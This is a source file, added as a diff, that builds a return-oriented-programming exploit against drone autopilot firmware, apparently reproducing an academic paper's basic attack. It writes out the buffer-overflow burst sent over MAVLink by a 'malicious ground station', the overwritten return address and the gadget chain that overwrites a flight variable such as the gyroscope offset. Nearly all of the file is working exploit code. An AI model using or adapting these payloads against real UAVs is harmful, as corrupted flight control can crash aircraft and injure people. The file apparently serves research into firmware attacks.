@@ -1,0 +1,81 @@
+"""ROP Attack V1 — the basic attack (paper §IV-C).
+
+One combination gadget: enter ``write_mem_gadget`` at its pop half to load
+Y and r5/r6/r7 from the stack, bounce on the std half to perform the write
+(e.g. set the gyroscope value), then fall off into garbage.  The stack
+frames around the payload are destroyed and the board stops behaving —
+which is exactly the drawback V2 fixes.
+
+Burst layout (the vulnerable loop copies every byte to a known offset)::
+
+    [6 B MAVLink header]              -> buffer[0..5]
+    [filler]                          -> rest of the buffer
+    [2 B junk]                        -> saved r29/r28 slots
+    [3 B ret -> write_mem pop half]   -> smashed return address
+    [pop block][ret -> std half]      -> loads Y/r5..r7, does the write
+    [pop block][ret -> garbage]       -> nothing left to return to
+"""
+
+from __future__ import annotations
+
+from typing import List, Optional
+
+from ..binfmt.image import FirmwareImage
+from ..mavlink.messages import PARAM_SET
+from ..mavlink.packet import HEADER_LENGTH
+from ..uav.autopilot import Autopilot
+from ..uav.groundstation import MaliciousGroundStation
+from .chain import ChainBuilder, FILL_BYTE, Write3, ret_address_bytes
+from .results import AttackOutcome, deliver
+from .runtime_facts import RuntimeFacts, derive_runtime_facts, variable_address
+
+# A word address guaranteed to be outside any application image: the final
+# ret lands here and the core starts "executing random garbage".
+GARBAGE_WORD = 0x1FFF8
+
+
+class BasicAttack:
+    """Builds and delivers V1 payloads against one victim image."""
+
+    def __init__(self, image: FirmwareImage, facts: Optional[RuntimeFacts] = None) -> None:
+        self.image = image
+        self.facts = facts if facts is not None else derive_runtime_facts(image)
+        self.builder = ChainBuilder(image)
+
+    def attack_bytes(self, target: int, values: bytes) -> bytes:
+        """Everything after the MAVLink header in the exploit burst."""
+        builder = self.builder
+        chain_after_ret = builder.write_chain(
+            [Write3(target, values)], final_ret_word=GARBAGE_WORD, final_regs={}
+        )
+        out = bytes([FILL_BYTE]) * (self.facts.buffer_size - HEADER_LENGTH)
+        out += bytes([FILL_BYTE, FILL_BYTE])  # saved r29/r28: junk
+        out += ret_address_bytes(builder.wm.pop_entry_word)
+        out += chain_after_ret
+        return out
+
+    def execute(
+        self,
+        autopilot: Autopilot,
+        gcs: Optional[MaliciousGroundStation] = None,
+        target_variable: str = "gyro_offset",
+        values: bytes = b"\x11\x22\x33",
+        observe_ticks: int = 30,
+    ) -> AttackOutcome:
+        """Deliver V1 against a live autopilot and observe the aftermath."""
+        station = gcs if gcs is not None else MaliciousGroundStation()
+        target = variable_address(self.image, target_variable)
+        burst = station.exploit_burst(
+            PARAM_SET.msg_id, self.attack_bytes(target, values)
+        )
+        symbol = self.image.symbols.get(target_variable)
+        padded = values + bytes(max(symbol.size - len(values), 0))
+        expected = int.from_bytes(padded[: symbol.size], "little")
+        return deliver(
+            autopilot,
+            station,
+            [burst],
+            observe_ticks=observe_ticks,
+            watch_variables={target_variable: expected},
+            name="rop-v1-basic",
+        )
